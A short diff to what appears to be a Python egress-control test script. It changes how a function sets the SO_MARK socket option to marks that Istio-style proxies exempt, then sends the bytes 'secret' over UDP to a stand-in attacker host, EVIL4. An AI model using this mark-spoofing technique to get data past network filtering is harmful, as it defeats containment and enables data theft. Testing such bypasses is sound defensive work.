@@ -46,7 +46,7 @@ def ping():
 def marked():
     """SO_MARK with what Istio and others exempt their proxies by (klangk 2276)."""
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
-        s.setsockopt(socket.SOL_SOCKET, 36, random.choice((1, 0x539, 0xFFFFFFFF)))
+        s.setsockopt(socket.SOL_SOCKET, 36, struct.pack("=I", random.choice((1, 0x539, 0xFFFFFFFF))))
         s.sendto(b"secret", (EVIL4, 4433))
 
 
